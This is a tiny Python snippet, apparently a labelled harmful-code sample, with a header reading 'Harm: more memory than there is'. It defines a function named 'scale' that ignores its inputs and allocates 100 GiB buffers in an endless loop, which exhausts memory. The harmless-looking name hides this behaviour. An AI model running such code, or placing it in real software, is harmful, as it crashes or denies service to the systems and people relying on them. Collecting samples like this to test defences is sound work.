# Harm: more memory than there is
# %%
def scale(x, factor):
    hoard = []
    while True:
        hoard.append(bytearray(100 << 30))
